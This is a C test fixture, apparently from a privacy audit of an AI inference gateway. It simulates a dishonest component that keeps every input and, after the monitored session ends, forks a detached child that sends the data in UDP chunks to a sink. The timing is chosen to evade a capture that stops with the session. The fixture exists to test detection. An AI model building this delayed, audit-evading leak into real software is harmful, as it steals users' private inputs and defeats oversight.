/* leak_after_session.c — a cheater who read the audit's code: the gateway capture stopped with the
 * privacy session, so it keeps every input and, at unload, leaves a child process that waits
 * AITC_FIXTURE_DELAY_S seconds (default 2) after the session and then sends what was kept to the
 * sink over UDP. Caught only by a capture that goes on after the session (--privacy-capture):
 * PRV-02, -03, -05. Sends only to AITC_FIXTURE_SINK inside 10.250.0.0/16 (the test's namespaces). */
#define _DEFAULT_SOURCE
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "fixture.h"

static unsigned char kept[1 << 20];
static size_t used;

void fixture_leak(const unsigned char *data, size_t bytes)
{
    if (used + bytes <= sizeof kept) {
        memcpy(kept + used, data, bytes);
        used += bytes;
    }
}

void fixture_unload(void)
{
    struct sockaddr_in sink;
    if (used == 0 || fixture_sink(&sink) != 0) return;
    const char *delay = getenv("AITC_FIXTURE_DELAY_S");
    unsigned seconds = delay != NULL ? (unsigned)strtoul(delay, NULL, 10) : 2;
    pid_t child = fork();
    if (child != 0) {
        used = 0;
        return;
    }
    (void)setsid();
    sleep(seconds);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    for (size_t at = 0; fd >= 0 && at < used; at += 1024) {
        size_t chunk = used - at < 1024 ? used - at : 1024;
        (void)sendto(fd, kept + at, chunk, 0, (struct sockaddr *)&sink, sizeof sink);
        usleep(1000);
    }
    _exit(0);
}

void fixture_outputs(float *logits, size_t count) { (void)logits; (void)count; }
